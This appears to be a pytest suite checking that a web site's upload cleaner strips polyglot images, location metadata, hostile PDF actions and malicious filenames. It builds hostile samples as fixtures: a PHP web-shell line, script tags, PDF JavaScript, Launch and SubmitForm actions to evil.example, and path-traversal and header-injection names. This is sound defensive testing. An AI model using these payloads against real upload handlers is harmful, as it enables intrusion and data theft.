"""Files that are two things at once, that lie about what they are, or that tell where somebody was."""

import io
import re
import struct
import zlib

import pikepdf
import pytest
from PIL import Image

from home.rules.uploads import UploadProblem, clean_file, clean_picture
from tests.home.uploads import CANARY, box, mp4, pdf, picture, plain_bytes

SCRIPT = b"<script>alert('xq7')</script>"
PHP = b"<?php system($_GET['c']); ?>"


def behind(content: bytes, more: bytes) -> bytes:
    return content + more


def png_with_chunk(kind: bytes, inside: bytes) -> bytes:
    content = picture("PNG")
    chunk = struct.pack(">I", len(inside)) + kind + inside + struct.pack(">I", zlib.crc32(kind + inside))
    return content[:33] + chunk + content[33:]


def gps() -> bytes:
    exif = Image.Exif()
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (53.0, 1.0, 30.1), "W", (2.0, 10.0, 45.2)
    exif[0x010F], exif[0x9003] = "CanaryPhone", "2026:11:01 10:00:00"
    return picture(exif=exif)


POLYGLOTS = {
    "picture and script": behind(picture(), SCRIPT),
    "picture and php": behind(picture("PNG"), PHP),
    "gif and script": behind(picture("GIF"), b"*/=0;" + SCRIPT),
    "picture and zip": behind(picture(), b"PK\x03\x04" + SCRIPT + bytes(40)),
    "script in a comment": picture(comment=SCRIPT),
    "script in a chunk": png_with_chunk(b"tEXt", b"Comment\0" + SCRIPT),
    "script in a profile": png_with_chunk(b"iCCP", b"x\0\0" + zlib.compress(SCRIPT)),
    "webp and script": behind(picture("WEBP"), SCRIPT),
}


@pytest.mark.parametrize("name", POLYGLOTS)
def test_of_a_picture_that_is_something_else_too_only_the_picture_is_kept(name):
    clean = clean_picture(POLYGLOTS[name]).content
    for never in (b"script", b"<?php", b"PK\x03\x04", b"alert"):
        assert never not in clean
        assert never not in zlib.decompress(clean[clean.index(b"iCCP") + 7 :]) if b"iCCP" in clean else True


def test_where_a_photograph_was_taken_and_with_what_is_gone():
    before = gps()
    assert b"CanaryPhone" in before
    with Image.open(io.BytesIO(clean_picture(before).content)) as kept:
        assert not dict(kept.getexif())
        assert not kept.getexif().get_ifd(0x8825)
        assert set(kept.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density", "progressive", "progression", "dpi"}


@pytest.mark.parametrize(
    ("kind", "size"),
    [("PNG", (1, 40_000_001)), ("PNG", (65_535, 65_535)), ("GIF", (65_535, 65_535)), ("PNG", (2_147_483_647, 1))],
    ids=["long", "square", "gif", "int"],
)
def test_a_picture_that_says_it_is_huge_is_refused_before_it_is_opened(kind, size):
    content = bytearray(picture(kind))
    if kind == "PNG":
        content[16:24] = struct.pack(">II", *size)
        content[29:33] = struct.pack(">I", zlib.crc32(bytes(content[12:29])))
    else:
        content[6:10] = struct.pack("<HH", *size)
    with pytest.raises(UploadProblem):
        clean_picture(bytes(content))


def hostile_pdf() -> bytes:
    document = pikepdf.new()
    page = document.add_blank_page()
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=f"app.alert('{CANARY}')")
    for name in ("/OpenAction", "/AA"):
        document.Root[name] = pikepdf.Dictionary(O=script) if name == "/AA" else script
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script])))
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=document.make_stream(f"<xdp>{CANARY}</xdp>".encode()), CO=pikepdf.Array([]))
    actions = {
        "script": script,
        "program": pikepdf.Dictionary(S=pikepdf.Name.Launch, F=f"{CANARY}.exe"),
        "elsewhere": pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=f"http://evil.example/{CANARY}"),
        "remote": pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=f"file://{CANARY}"),
        "import": pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=f"{CANARY}"),
        "chained": pikepdf.Dictionary(S=pikepdf.Name.GoTo, Next=script),
    }
    notes = [
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 9, 9]), A=action, T=CANARY)
        for action in actions.values()
    ]
    notes.append(pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 9, 9]), A=script))  # it need not say that it is one
    page.Annots = pikepdf.Array([document.make_indirect(note) for note in notes])
    attached = document.make_stream(f"{CANARY}".encode())
    page.Annots.append(
        document.make_indirect(pikepdf.Dictionary(Subtype=pikepdf.Name.FileAttachment, FS=pikepdf.Dictionary(EF=pikepdf.Dictionary(F=attached))))
    )
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def test_a_pdf_keeps_no_script_no_program_no_form_and_nothing_attached():
    assert CANARY.encode() in plain_bytes(hostile_pdf())
    clean = plain_bytes(clean_file(hostile_pdf(), title="A leaflet").content)
    for never in (CANARY.encode(), b"/JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"/ImportData", b"/GoToR", b"/XFA", b"/EmbeddedFile"):
        assert never not in clean, never


def test_a_film_of_a_telephone_keeps_no_place_and_no_name_wherever_they_stand():
    told = box(b"udta", box(b"meta", bytes(4), box(b"ilst", CANARY.encode())))
    film = (
        box(b"ftyp", b"qt  ", bytes(4), b"qt  ")
        + box(b"free", CANARY.encode())
        + box(b"moov", box(b"mvhd", bytes(100)), box(b"trak", box(b"mdia", box(b"minf", told), told)), box(b"meta", CANARY.encode()))
        + box(b"mdat", bytes(64))
        + box(b"skip", CANARY.encode())
    )
    assert CANARY.encode() not in clean_file(film).content


@pytest.mark.parametrize("content", [mp4() + SCRIPT, pdf() + SCRIPT], ids=["mp4", "pdf"])
def test_what_stands_behind_a_file_is_refused_or_gone(content):
    try:
        kept = clean_file(content).content
    except UploadProblem:
        return
    assert b"<script>" not in kept


@pytest.mark.parametrize(
    "name", ["a.pdf.exe", "a.php.jpg", "a.jpg.html", "..\\..\\a.jpg", "a\0.jpg", "a.jpg\r\nX: y", "<script>.jpg", "CON.jpg", "x" * 300 + ".jpg"]
)
@pytest.mark.django_db
def test_the_name_that_a_file_came_with_is_thrown_away(name):
    from wagtail.models import Collection

    from home.actions.media import keep_file, keep_picture

    place = Collection.get_first_root_node()
    shown = keep_picture(title="Shown", name=name, content=picture(), collection=place)
    kept = keep_file(title="Read", name=name, content=pdf(), collection=place)
    assert re.fullmatch(r"original_images/[\w-]+\.jpg", shown.file.name), shown.file.name
    assert re.fullmatch(r"documents/[\w-]+\.pdf", kept.file.name), kept.file.name
